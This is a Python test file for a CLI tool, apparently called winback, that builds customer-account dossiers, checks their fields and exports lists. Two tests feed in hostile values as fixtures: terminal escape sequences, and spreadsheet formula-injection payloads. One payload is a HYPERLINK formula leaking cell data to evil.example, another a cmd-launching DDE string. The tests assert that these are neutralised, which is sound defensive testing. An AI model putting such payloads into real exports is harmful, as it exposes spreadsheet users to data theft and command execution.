"""The winback command end to end: CliRunner for detail, a real process for the real thing."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys

import pytest
from click.testing import CliRunner
from conftest import FULL_ACCOUNT, MINIMAL_ACCOUNT, REPO, front, write

from generator import __version__
from generator.cli import main

BAD = front("""
    name: Broken
    status: lsot
""")


@pytest.fixture
def runner():
    return CliRunner()


def invoke(runner, project_dir, *args):
    return runner.invoke(main, ["-C", str(project_dir), *args], catch_exceptions=False)


def test_version(runner):
    result = runner.invoke(main, ["--version"])
    assert result.exit_code == 0
    assert result.output == f"winback, version {__version__}\n"


def test_help_has_examples(runner):
    result = runner.invoke(main, ["build", "--help"])
    assert "Examples:" in result.output and "winback build --out" in result.output
    assert "winback check content/accounts/acme.md" in runner.invoke(main, ["check", "-h"]).output


def test_check_is_silent_when_clean(runner, project_dir, add_account):
    add_account("northwind", FULL_ACCOUNT)
    result = invoke(runner, project_dir, "check")
    assert (result.exit_code, result.output) == (0, "")


def test_check_lists_every_problem_and_fails(runner, project_dir, add_account):
    add_account("northwind", FULL_ACCOUNT)
    add_account("broken", BAD)
    add_account("typo", front("""
        name: Typo
        status: active
        ownr: X
    """))
    result = invoke(runner, project_dir, "check")
    assert result.exit_code == 1
    lines = result.stderr.splitlines()
    assert any(line.endswith("broken.md:3:9: status: 'lsot' is not one of lost, at-risk, "
                             "won-back, active (did you mean 'lost'?)") for line in lines)
    assert any(line.endswith("typo.md:4:1: ownr: unknown field (did you mean 'owner'?)")
               for line in lines)
    assert lines[-1] == "2 problems in 2 of 3 files."


def test_check_named_files_only(runner, project_dir, add_account):
    good = add_account("northwind", FULL_ACCOUNT)
    add_account("broken", BAD)
    assert invoke(runner, project_dir, "check", str(good)).exit_code == 0


def test_check_warnings_pass_unless_strict(runner, project_dir, add_account):
    add_account("harlow", MINIMAL_ACCOUNT)
    relaxed = invoke(runner, project_dir, "check")
    assert relaxed.exit_code == 0 and "warning: loss_reasons" in relaxed.stderr
    assert invoke(runner, project_dir, "check", "--strict").exit_code == 1


def test_check_json(runner, project_dir, add_account):
    path = add_account("broken", BAD)
    result = invoke(runner, project_dir, "check", "--format", "json", str(path))
    assert result.exit_code == 1
    (problem,) = json.loads(result.stdout)
    assert {k: problem[k] for k in ("line", "column", "field", "hint", "severity")} == {
        "line": 3, "column": 9, "field": "status", "hint": "did you mean 'lost'?",
        "severity": "error"}


def test_check_json_is_an_empty_list_when_clean(runner, project_dir, add_account):
    add_account("northwind", FULL_ACCOUNT)
    result = invoke(runner, project_dir, "check", "--format", "json")
    assert result.exit_code == 0 and json.loads(result.stdout) == []


def test_build_good_next_to_bad(runner, project_dir, add_account, tmp_path):
    add_account("northwind", FULL_ACCOUNT)
    add_account("broken", BAD)
    out = tmp_path / "site"
    result = invoke(runner, project_dir, "build", "--out", str(out), "--today", "2026-11-26",
                    "--no-pdf")
    assert result.exit_code == 1
    assert (out / "accounts" / "northwind.html").is_file()
    assert not (out / "accounts" / "broken.html").exists()
    assert "broken.md:3:9: status" in result.stderr
    assert "Traceback" not in result.output
    summary = result.stderr.splitlines()[-1]
    assert summary.startswith(f"Built 1 of 2 dossiers into {out}/: 1 failed, 0 warnings")
    assert "broken.md:3:9" in (out / "index.html").read_text()


def test_build_strict_fails_on_warnings(runner, project_dir, add_account):
    add_account("harlow", MINIMAL_ACCOUNT)
    assert invoke(runner, project_dir, "build", "--no-pdf").exit_code == 0
    assert invoke(runner, project_dir, "build", "--no-pdf", "--strict").exit_code == 1


def test_broken_config_stops_the_build(runner, project_dir, add_account):
    add_account("northwind", FULL_ACCOUNT)
    write(project_dir / "winback.yaml", "titel: X\n")
    result = invoke(runner, project_dir, "build")
    assert result.exit_code == 1
    assert "winback.yaml:1:1: titel: unknown field (did you mean 'title'?)" in result.stderr
    assert not (project_dir / "output").exists()


def test_bad_today_option(runner, project_dir):
    result = invoke(runner, project_dir, "build", "--today", "26/11/2026")
    assert result.exit_code == 2
    assert "'26/11/2026' is not a date; write YYYY-MM-DD" in result.output


def test_real_process_builds_the_sample_accounts(tmp_path):
    project = tmp_path / "demo"  # a copy: the build state must not land in the repository
    shutil.copytree(REPO / "content", project / "content")
    shutil.copy(REPO / "winback.yaml", project / "winback.yaml")
    env = {**os.environ, "SOURCE_DATE_EPOCH": "1795651200"}
    out = tmp_path / "site"
    done = subprocess.run([sys.executable, "-m", "generator", "build", "--out", str(out)],
                          cwd=project, env=env, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    owners = len(list((out / "owners").glob("*.html")))
    assert done.stdout.startswith(
        f"Built 10 dossiers, 10 PDF briefs with their letters and plans, the portfolio PDF "
        f"and {owners} owner PDFs into {out}/, 1 warning")
    # a dossier, its letters and the plan for the client, each a page and a PDF
    assert len(list((out / "accounts").glob("*.html"))) == 30
    assert len(list((out / "accounts").glob("*.pdf"))) == 30
    check = subprocess.run([sys.executable, "-m", "generator", "check"], cwd=project,
                           capture_output=True, text=True, timeout=120)
    assert check.returncode == 0 and check.stdout == ""


def test_pdf_command_renders_only_the_named_accounts(runner, project_dir, add_account):
    add_account("northwind", FULL_ACCOUNT)
    add_account("harlow", MINIMAL_ACCOUNT)
    result = invoke(runner, project_dir, "pdf", "northwind", "-j", "1", "--today", "2026-11-26")
    assert result.exit_code == 0, result.output
    accounts = project_dir / "output" / "accounts"
    assert sorted(p.name for p in accounts.iterdir()) == [
        "northwind-letters.html", "northwind-letters.pdf", "northwind-plan.html",
        "northwind-plan.pdf", "northwind.html", "northwind.pdf"]
    assert not (project_dir / "output" / "index.html").exists()
    lines = result.stdout.splitlines()
    assert lines[:3] == [str(accounts / "northwind.pdf"), str(accounts / "northwind-letters.pdf"),
                         str(accounts / "northwind-plan.pdf")]
    assert lines[3].startswith("Built 1 dossier and 1 PDF brief with their letters and plans into ")


def test_pdf_command_unknown_slug(runner, project_dir, add_account):
    add_account("northwind", FULL_ACCOUNT)
    result = invoke(runner, project_dir, "pdf", "nortwind")
    assert result.exit_code == 1
    assert "no account 'nortwind' (did you mean 'northwind'?)" in result.stderr


def test_terminal_escapes_from_a_file_are_never_printed(runner, project_dir, add_account):
    add_account("good", FULL_ACCOUNT)
    add_account("escapes", front(r'''
        name: "Esc\e]0;PWNED\a\e[2J Corp"
        status: active
        owner: "Dana\e[31m Reyes"
        meeting:
          when: 2026-12-03 10:00
          with: ["\e]0;PWNED\a\e[2J"]
        people: [{name: Priya}]
    '''))
    for command in (["check"], ["build", "--no-pdf"], ["list"]):
        result = invoke(runner, project_dir, *command)
        assert "\x1b" not in result.output and "\x07" not in result.output, command
    warned = invoke(runner, project_dir, "check").stderr
    assert ("escapes.md:7:10: warning: meeting, attendee 1: '\\x1b]0;PWNED\\x07\\x1b[2J' is not in "
            "people") in warned
    table = invoke(runner, project_dir, "list").stdout
    assert "Esc\\x1b]0;PWNED\\x07\\x1b[2J Corp" in table and "Dana\\x1b[31m Reyes" in table


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(runner, project_dir, add_account):
    add_account("formula", front('''
        name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
        status: active
        owner: "+cmd|' /C calc'!A0"
    '''))
    add_account("plain", front('''
        name: Plain Corp
        status: active
        owner: "@Dana"
    '''))
    rows = list(csv.DictReader(io.StringIO(invoke(runner, project_dir, "list", "--format",
                                                  "csv").stdout)))
    assert [(r["name"], r["owner"]) for r in rows] == [
        ("'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "'+cmd|' /C calc'!A0"),
        ("Plain Corp", "'@Dana")]
    assert json.loads(invoke(runner, project_dir, "list", "--format", "json").stdout)[0][
        "name"].startswith("=HYPERLINK")  # JSON is data for programs: it stays as written


# --- finding the project ----------------------------------------------------------------


@pytest.mark.parametrize("command", [["build"], ["check"], ["list"], ["new", "Acme"],
                                     ["pdf", "acme"], ["serve", "--port", "0"]])
def test_outside_a_project_nothing_happens_and_it_says_why(runner, tmp_path, monkeypatch,
                                                          command):
    monkeypatch.chdir(tmp_path)
    result = runner.invoke(main, command)
    assert result.exit_code == 2
    assert ("no winback project in this folder or a folder above it (no winback.yaml or "
            "content/accounts/): run `winback init` to start one") in result.stderr
    assert list(tmp_path.iterdir()) == []  # no output/, no .winback-cache/, no content/


def test_the_project_is_found_from_a_folder_inside_it(runner, project_dir, add_account,
                                                      monkeypatch):
    add_account("northwind", FULL_ACCOUNT)
    monkeypatch.chdir(project_dir / "content" / "accounts")
    result = runner.invoke(main, ["build", "--no-pdf", "--today", "2026-11-26"])
    assert result.exit_code == 0, result.output
    assert (project_dir / "output" / "index.html").is_file()
    assert not (project_dir / "content" / "accounts" / "output").exists()
    assert runner.invoke(main, ["check"]).exit_code == 0


def test_the_project_option_goes_before_or_after_the_command(runner, project_dir, add_account,
                                                             tmp_path, monkeypatch):
    add_account("northwind", FULL_ACCOUNT)
    monkeypatch.chdir(tmp_path)
    before = runner.invoke(main, ["-C", str(project_dir), "list", "--format", "json"])
    after = runner.invoke(main, ["list", "-C", str(project_dir), "--format", "json"])
    assert before.exit_code == after.exit_code == 0
    assert json.loads(before.stdout) == json.loads(after.stdout) != []
    nowhere = tmp_path.parent / f"{tmp_path.name}-nowhere"  # outside the project folder
    missing = runner.invoke(main, ["check", "-C", str(nowhere)])
    assert missing.exit_code == 2 and f"no winback project in {nowhere}" in missing.stderr
